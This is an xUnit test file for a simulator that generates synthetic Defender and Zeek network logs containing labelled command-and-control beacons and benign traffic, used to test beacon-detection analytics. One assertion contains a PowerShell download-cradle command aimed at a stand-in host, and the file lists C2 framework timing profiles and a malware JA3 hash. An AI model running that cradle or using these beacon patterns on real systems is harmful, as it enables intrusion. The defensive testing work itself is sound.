using System.Diagnostics;
using System.Text.RegularExpressions;
using Cadence.Simulation;
using Cadence.Telemetry;

namespace Cadence.Tests.Simulation;

/// <summary>The simulated fleet: repeatable, read by Cadence without a rejected row, and its labels match its data.</summary>
public sealed class FleetSimulatorTests(SimulatedFleet fleet) : IClassFixture<SimulatedFleet>
{
    private static readonly string[] ImplantIds =
    [
        "cobaltstrike-60s-j50", "sliver-60s-j30s", "mythic-10s-j23", "covenant-5s-j10", "empire-5s-j0", "poshc2-5s-j20",
        "cobaltstrike-30m-j20", "cobaltstrike-1h-j10", "cdn-8ip-60s-j20", "officehours-5m-j10", "chrome-injected-45s-j20",
        "useragent-httpbrowser", "websocket-c2", "ja3-trickbot", "powershell-downloadstring",
    ];

    private ChannelLabel Label(SimulationResult result, string profile) => result.Labels.Single(l => l.Profile.Id == profile);

    /// <summary>The Defender connection rows (not inspections) of one labelled channel, in time order.</summary>
    private List<NetworkEvent> DefenderChannel(string profile)
    {
        var label = Label(fleet.DefenderResult, profile);
        return [.. fleet.DefenderEvents
            .Where(e => e.DeviceName == label.Device && e.InitiatingProcessFileName == label.Process && e.RemoteUrl == label.Destination)
            .OrderBy(e => e.TimestampTicks)];
    }

    private static List<double> Intervals(List<NetworkEvent> events) =>
        [.. events.Zip(events.Skip(1), (a, b) => (b.TimestampTicks - a.TimestampTicks) / (double)TimeSpan.TicksPerSecond)];

    [Fact]
    public void TheSameSeedWritesTheSameBytesAndAnotherSeedDoesNot()
    {
        foreach (var (result, format) in new[] { (fleet.DefenderResult, SimulationFormat.Defender), (fleet.ZeekResult, SimulationFormat.Zeek) })
        {
            var again = FleetSimulator.Run(fleet.Options(format, $"again-{format}"));
            Assert.Equal(result.Files.Select(f => Path.GetFileName(f.Path)), again.Files.Select(f => Path.GetFileName(f.Path)));
            foreach (var (first, second) in result.Files.Zip(again.Files))
                Assert.True(File.ReadAllBytes(first.Path).AsSpan().SequenceEqual(File.ReadAllBytes(second.Path)), $"{Path.GetFileName(first.Path)} differs between two runs");

            var other = FleetSimulator.Run(fleet.Options(format, $"other-{format}", seed: SimulatedFleet.Seed + 1));
            Assert.False(File.ReadAllBytes(result.Files[0].Path).AsSpan().SequenceEqual(File.ReadAllBytes(other.Files[0].Path)));
        }
    }

    [Fact]
    public void DefenderExportReadsBackWithoutARejectedRowAndEveryInspectionCarriesItsDetails()
    {
        var log = fleet.DefenderLog;
        var file = fleet.DefenderResult.Files.Single(f => f.Path.EndsWith("DeviceNetworkEvents.csv", StringComparison.Ordinal));
        Assert.Equal(0, log.RowsRejected);
        Assert.Equal(0, log.RowsSkipped);
        Assert.Equal(file.Rows, log.EventsRead);
        Assert.Equal(file.Rows, fleet.DefenderEvents.Count);

        var byAction = fleet.DefenderEvents.GroupBy(e => e.ActionType).ToDictionary(g => g.Key, g => g.ToList());
        Assert.Equal(fleet.DefenderResult.Connections,
            byAction["ConnectionSuccess"].Count + byAction["ConnectionFailed"].Count + byAction["ConnectionAttempt"].Count);
        Assert.True(byAction["ConnectionSuccess"].Count > 50 * (byAction["ConnectionFailed"].Count + byAction["ConnectionAttempt"].Count));

        // Every plain-HTTP success is inspected, with the request's details and (joined back) its process.
        var http = byAction["HttpConnectionInspected"];
        Assert.Equal(byAction["ConnectionSuccess"].Count(e => e.RemotePort is 80 or 8080), http.Count);
        Assert.All(http, e =>
        {
            Assert.False(string.IsNullOrEmpty(e.UserAgent));
            Assert.NotNull(e.HttpMethod);
            Assert.NotNull(e.StatusCode);
            Assert.NotNull(e.DestinationHost);
            Assert.NotEqual(string.Empty, e.InitiatingProcessFileName);
        });
        var tls = byAction["SslConnectionInspected"];
        Assert.InRange(tls.Count, byAction["ConnectionSuccess"].Count(e => e.RemotePort == 443) / 20, byAction["ConnectionSuccess"].Count(e => e.RemotePort == 443) / 5);
        Assert.All(tls, e =>
        {
            Assert.Matches("^[0-9a-f]{32}$", e.Ja3!);
            Assert.Matches("^[0-9a-f]{32}$", e.Ja3s!);
            Assert.NotNull(e.DestinationHost);
            Assert.NotEqual(string.Empty, e.InitiatingProcessFileName);
        });
        Assert.All(byAction["ConnectionSuccess"], e =>
        {
            Assert.Equal("Public", e.RemoteIPType);
            Assert.StartsWith("10.20.", e.LocalIP, StringComparison.Ordinal);
            Assert.False(string.IsNullOrEmpty(e.RemoteUrl));
            Assert.NotNull(e.ProcessId);
        });
    }

    [Fact]
    public void DefenderRowsAreInTimeOrderWithDefendersTimestampShape()
    {
        var ordered = fleet.DefenderEvents.OrderBy(e => e.Provenance.Line).Select(e => e.TimestampTicks).ToList();
        Assert.True(ordered.Zip(ordered.Skip(1)).All(p => p.First <= p.Second), "rows out of time order");

        var path = fleet.DefenderResult.Files[0].Path;
        var lines = File.ReadLines(path).Take(2000).ToList();
        Assert.Equal(
            "Timestamp,DeviceId,DeviceName,ActionType,RemoteIP,RemotePort,RemoteUrl,LocalIP,LocalPort,Protocol,LocalIPType,RemoteIPType," +
            "InitiatingProcessFileName,InitiatingProcessId,InitiatingProcessCommandLine,InitiatingProcessAccountName,AdditionalFields,ReportId",
            lines[0]);
        // The fraction loses its trailing zeros (2023-12-21T17:33:44.663Z), as Defender's export does.
        Assert.All(lines.Skip(1), l => Assert.Matches(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{0,6}[1-9])?Z,[0-9a-f]{40},", l));
    }

    [Fact]
    public void ZeekLogsReadBackWithEveryHttpAndSslRecordLinkedToItsConnection()
    {
        var log = fleet.ZeekLog;
        var rows = fleet.ZeekResult.Files.ToDictionary(f => Path.GetFileName(f.Path), f => f.Rows);
        Assert.Equal(0, log.RowsRejected);
        Assert.Equal(0, log.RowsSkipped);
        // Linked records enrich their connection rather than becoming events: one event per conn record.
        Assert.Equal(rows["conn.log"], fleet.ZeekEvents.Count);
        Assert.Equal(fleet.ZeekResult.Connections, rows["conn.log"]);
        Assert.Equal(rows["http.log"], fleet.ZeekEvents.Count(e => e.UserAgent is not null));
        Assert.Equal(rows["ssl.log"], fleet.ZeekEvents.Count(e => e.Ja3 is not null));
        Assert.DoesNotContain(fleet.ZeekEvents, e => e.ActionType == "HttpConnectionInspected" || e.ActionType == "SslConnectionInspected");
        Assert.All(fleet.ZeekEvents.Where(e => e.ActionType == "ConnectionSuccess"), e =>
        {
            Assert.NotNull(e.DestinationHost);
            Assert.NotNull(e.SentBytes);
            Assert.NotNull(e.DurationTicks);
            Assert.Equal("Public", e.RemoteIPType);
        });

        // Same fleet, same connections, whichever format wrote it.
        Assert.Equal(fleet.DefenderResult.Connections, fleet.ZeekResult.Connections);
        var conn = File.ReadLines(fleet.ZeekResult.Files[0].Path).ToList();
        Assert.Equal(@"#separator \x09", conn[0]);
        Assert.Equal("#open\t2026-11-30-00-00-00", conn[5]);
        Assert.Equal("#close\t2026-12-02-00-00-00", conn[^1]);
    }

    [Fact]
    public void LabelsNameEveryImplantOnceAndEveryLabelledChannelIsInTheData()
    {
        foreach (var (result, events, zeek) in new[] { (fleet.DefenderResult, fleet.DefenderEvents, false), (fleet.ZeekResult, fleet.ZeekEvents, true) })
        {
            var implants = result.Labels.Where(l => l.Profile.Label == SimulationLabel.Implant).ToList();
            Assert.Equal(ImplantIds.Order(), implants.Select(l => l.Profile.Id).Order());
            // 20 devices hold 15 implants one each.
            Assert.Equal(implants.Count, implants.Select(l => l.Device).Distinct().Count());
            Assert.All(implants, l => Assert.NotEqual(string.Empty, l.Profile.ExpectedAnalytic));
            Assert.All(result.Labels.Where(l => l.Profile.Label == SimulationLabel.Benign), l => Assert.Equal(string.Empty, l.Profile.ExpectedAnalytic));

            var seen = zeek
                ? events.Where(e => e.DestinationHost is not null).Select(e => (e.DeviceName, string.Empty, e.DestinationHost!)).ToHashSet()
                : events.Where(e => e.RemoteUrl is not null).Select(e => (e.DeviceName, e.InitiatingProcessFileName, e.RemoteUrl!)).ToHashSet();
            Assert.All(result.Labels, l => Assert.Contains((l.Device, l.Process, l.Destination), seen));
            if (zeek)
                Assert.All(result.Labels, l => Assert.Matches(@"^10\.20\.\d+\.\d+$", l.Device));

            // Each implant's destination is rare: no other device goes there.
            foreach (var implant in implants)
                Assert.Equal([implant.Device], events.Where(e => (e.DestinationHost ?? e.RemoteUrl) == implant.Destination).Select(e => e.DeviceName).Distinct());

            var lines = File.ReadAllLines(result.Files[^1].Path);
            Assert.Equal("device,process,destination,label,profile,expected_analytic,description", lines[0]);
            Assert.Equal(result.Labels.Count + 1, lines.Length);
            Assert.Contains(lines, l => l.Contains(",implant,cobaltstrike-60s-j50,beacon,", StringComparison.Ordinal));
            Assert.Contains(lines, l => l.Contains(",implant,ja3-trickbot,ja3,", StringComparison.Ordinal));
        }
        Assert.Equal(
            ["beacon", "ja3", "process", "user-agent", "websocket"],
            fleet.DefenderResult.Labels.Where(l => l.Profile.Label == SimulationLabel.Implant).Select(l => l.Profile.ExpectedAnalytic).Distinct().Order());
    }

    [Fact]
    public void EveryBenignFalsePositiveClassIsOnTheFleet()
    {
        var profiles = fleet.DefenderResult.Labels.Where(l => l.Profile.Label == SimulationLabel.Benign).GroupBy(l => l.Profile.Id)
            .ToDictionary(g => g.Key, g => g.Select(l => l.Device).Distinct().Count());
        // The monitoring agent and the Defender sensor are nearly everywhere; the benign periodic script on one device.
        Assert.InRange(profiles["monitoring-agent-60s"], 16, 20);
        Assert.Equal(20, profiles["mssense-telemetry"]);
        Assert.Equal(1, profiles["python-statuspoll-600s"]);
        foreach (var id in new[] { "web-browsing", "webmail-longpoll", "teams-presence-60s", "onedrive-sync", "edgeupdate-hourly", "windowsupdate-scan" })
            Assert.True(profiles.ContainsKey(id), $"{id} missing");
    }

    [Fact]
    public void CobaltStrikeWaitsBetweenHalfAndAllOfItsSleepExceptForTaskingAndMissedCheckIns()
    {
        var intervals = Intervals(DefenderChannel("cobaltstrike-60s-j50"));
        // Two days at a mean wait of about 45 s: some 3,800 check-ins.
        Assert.InRange(intervals.Count, 3_400, 4_200);
        // The sleep is measured from the end of a check-in (a few hundred ms) to the next: [S(1-j), S] plus that.
        var regular = intervals.Count(i => i is >= 30 and <= 61);
        Assert.True(regular >= intervals.Count * 0.9, $"{regular} of {intervals.Count} intervals in [30, 61] s");
        // Shorter ones are tasking bursts (seconds apart); longer ones missed or failed check-ins.
        Assert.All(intervals.Where(i => i < 30), i => Assert.InRange(i, 0.3, 5));
        Assert.All(intervals.Where(i => i > 61), i => Assert.InRange(i, 61, 4 * 61));
        Assert.Contains(intervals, i => i < 5);
        Assert.Contains(intervals, i => i > 90);
        var mean = intervals.Where(i => i is >= 30 and <= 61).Average();
        Assert.InRange(mean, 44, 47);
    }

    [Theory]
    [InlineData("sliver-60s-j30s", 60, 91)]
    [InlineData("mythic-10s-j23", 7.7, 13.3)]
    [InlineData("covenant-5s-j10", 4.5, 6.5)]
    [InlineData("empire-5s-j0", 5, 6)]
    [InlineData("poshc2-5s-j20", 4, 7)]
    [InlineData("chrome-injected-45s-j20", 36, 46)]
    public void PeriodicImplantsKeepTheirFrameworksRhythmInTheData(string profile, double min, double max)
    {
        var intervals = Intervals(DefenderChannel(profile));
        var regular = intervals.Count(i => i >= min && i <= max);
        Assert.True(regular >= intervals.Count * 0.9, $"{profile}: {regular} of {intervals.Count} intervals in [{min}, {max}] s");
    }

    [Fact]
    public void PoshC2SleepsWholeSecondsPlusTheCheckInsOwnDuration()
    {
        var fractions = Intervals(DefenderChannel("poshc2-5s-j20")).Where(i => i is >= 4 and < 7).Select(i => i - Math.Floor(i)).ToList();
        // The check-in takes a fraction of a second (median 0.18 s): the fractional parts sit low, not uniform.
        Assert.True(fractions.Count(f => f < 0.5) >= fractions.Count * 0.95);
    }

    [Fact]
    public void TheHardCasesLookTheWayTheyShould()
    {
        // Office-hours beacon: only 08:00-18:00 on weekdays.
        var office = DefenderChannel("officehours-5m-j10");
        Assert.InRange(office.Count, 2 * 100, 2 * 130);
        Assert.All(office, e => Assert.InRange(e.Timestamp.TimeOfDay, TimeSpan.FromHours(8), TimeSpan.FromHours(18)));

        // CDN: one name, eight addresses.
        Assert.Equal(8, DefenderChannel("cdn-8ip-60s-j20").Select(e => e.RemoteIP).Distinct().Count());

        // Injected in the browser: the same chrome.exe process (id) the user browses with.
        var injected = DefenderChannel("chrome-injected-45s-j20");
        var device = injected[0].DeviceName;
        var browserIds = fleet.DefenderEvents.Where(e => e.DeviceName == device && e.InitiatingProcessFileName == "chrome.exe").Select(e => e.ProcessId).Distinct();
        Assert.Single(browserIds);

        // Slow beacons: about one check-in per sleep.
        Assert.InRange(DefenderChannel("cobaltstrike-30m-j20").Count, 2 * 24 * 3600 / 1800 * 0.9, 2 * 24 * 3600 / 1440 * 1.1);
        Assert.InRange(DefenderChannel("cobaltstrike-1h-j10").Count, 2 * 24 * 0.85, 2 * 24 * 3600 / 3240 * 1.1);

        // The download cradle: one to three connections, its command line the only tell.
        var cradle = DefenderChannel("powershell-downloadstring");
        Assert.InRange(cradle.Count, 1, 3);
        Assert.All(cradle, e => Assert.Contains("(New-Object Net.WebClient).DownloadString('https://raw.snippet-host.example/", e.ProcessCommandLine, StringComparison.Ordinal));

        // Framework user agent, WebSocket upgrade, Trickbot's JA3: in the inspected rows.
        var ua = Label(fleet.DefenderResult, "useragent-httpbrowser");
        var uaRows = fleet.DefenderEvents.Where(e => e.DestinationHost == ua.Destination).ToList();
        Assert.NotEmpty(uaRows);
        Assert.All(uaRows, e => Assert.Equal("HttpBrowser/1.0", e.UserAgent));
        var timing = Intervals(DefenderChannel("useragent-httpbrowser"));
        Assert.True(timing.Max() > 3 * timing.Min(), "user-agent implant should not be periodic");

        var ws = Label(fleet.DefenderResult, "websocket-c2");
        Assert.All(fleet.DefenderEvents.Where(e => e.DestinationHost == ws.Destination), e =>
        {
            Assert.Equal(101, e.StatusCode);
            Assert.True(e.WebSocketUpgrade);
        });
        var zeekWs = fleet.ZeekEvents.Where(e => e.StatusCode == 101).ToList();
        Assert.NotEmpty(zeekWs);
        Assert.Contains(zeekWs, e => e.DurationTicks > TimeSpan.TicksPerHour);

        var ja3 = Label(fleet.DefenderResult, "ja3-trickbot");
        var handshakes = fleet.DefenderEvents.Where(e => e.ActionType == "SslConnectionInspected" && e.DestinationHost == ja3.Destination).ToList();
        Assert.Equal(DefenderChannel("ja3-trickbot").Count(e => e.ActionType == "ConnectionSuccess"), handshakes.Count);
        Assert.All(handshakes, e => Assert.Equal("6734f37431670b3ab4292b8f60f29984", e.Ja3));
        Assert.Contains(fleet.ZeekEvents, e => e.Ja3 == "6734f37431670b3ab4292b8f60f29984" && e.DestinationHost == ja3.Destination);
        Assert.DoesNotContain(fleet.ZeekEvents, e => e.Ja3 == "6734f37431670b3ab4292b8f60f29984" && e.DestinationHost != ja3.Destination);
    }

    [Fact]
    public void ImplantsSendNearConstantSizesAndPeopleDoNot()
    {
        static (long P5, long P95) Spread(IEnumerable<long> values)
        {
            var sorted = values.Order().ToList();
            return (sorted[(int)(sorted.Count * 0.05)], sorted[(int)(sorted.Count * 0.95)]);
        }

        var cs = Label(fleet.ZeekResult, "cobaltstrike-60s-j50");
        var implant = Spread(fleet.ZeekEvents.Where(e => e.DeviceName == cs.Device && e.DestinationHost == cs.Destination).Select(e => e.SentBytes!.Value));
        Assert.InRange(implant.P95 - implant.P5, 0, 10);

        var browsed = fleet.ZeekResult.Labels.Where(l => l.Profile.Id == "web-browsing").Select(l => (l.Device, l.Destination)).ToHashSet();
        var browsing = Spread(fleet.ZeekEvents.Where(e => e.DestinationHost is { } h && browsed.Contains((e.DeviceName, h))).Select(e => e.SentBytes!.Value));
        Assert.True(browsing.P95 > 3 * browsing.P5, $"browsing sizes {browsing}");
    }

    [Fact]
    public void AFleetOf150DevicesForADayTakesSecondsAndHasARealisticVolume()
    {
        var clock = Stopwatch.StartNew();
        var result = FleetSimulator.Run(new SimulationOptions(150, 1, 7, SimulationFormat.Zeek, Path.Combine(fleet.Root, "scale")));
        clock.Stop();
        Assert.InRange(result.Connections, 100_000, 500_000);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), $"took {clock.Elapsed}");
        Assert.Equal(15, result.ImplantChannels);
        foreach (var file in result.Files)
            File.Delete(file.Path);
    }

    [Fact]
    public void TheProfileListIsTheAnswerKeysVocabulary()
    {
        var all = SimulationProfiles.All;
        Assert.Equal(all.Count, all.Select(p => p.Id).Distinct().Count());
        Assert.Equal(ImplantIds.Order(), all.Where(p => p.Label == SimulationLabel.Implant).Select(p => p.Id).Order());
        Assert.All(all, p => Assert.Matches("^[a-z0-9]+(-[a-z0-9]+)*$", p.Id));
        Assert.All(all, p => Assert.False(string.IsNullOrWhiteSpace(p.Cadence)));
        Assert.Equal("sleep 60 s, jitter 50 % (uniform in [30, 60] s)", all.Single(p => p.Id == "cobaltstrike-60s-j50").Cadence);
        Assert.Equal("sleep 5 s +-20 % in whole seconds (4 to 6 s)", all.Single(p => p.Id == "poshc2-5s-j20").Cadence);
    }

    [Fact]
    public void InvalidOptionsAreRefusedWithEveryProblemAtOnce()
    {
        var options = new SimulationOptions(0, 31, 1, SimulationFormat.Defender, " ");
        var problems = options.Validate();
        Assert.Equal(3, problems.Count);
        Assert.Contains(problems, p => p.StartsWith("--devices must be between 1 and", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.StartsWith("--days must be between 1 and 30", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.StartsWith("--out", StringComparison.Ordinal));
        Assert.Throws<ArgumentException>(() => FleetSimulator.Run(options));
        Assert.Empty(fleet.Options(SimulationFormat.Zeek, "x").Validate());
    }

    [Fact]
    public void AStartOnASaturdayLeavesTheOfficeHoursBeaconOutOfTheLabels()
    {
        var options = new SimulationOptions(20, 1, SimulatedFleet.Seed, SimulationFormat.Defender, Path.Combine(fleet.Root, "saturday"))
        {
            Start = new DateTime(2026, 12, 5, 0, 0, 0, DateTimeKind.Utc),
        };
        var result = FleetSimulator.Run(options);
        Assert.DoesNotContain(result.Labels, l => l.Profile.Id == "officehours-5m-j10");
        Assert.Contains(result.Labels, l => l.Profile.Id == "cobaltstrike-60s-j50");
        Assert.Matches(new Regex("^2026-12-05T"), File.ReadLines(result.Files[0].Path).Skip(1).First());
    }
}
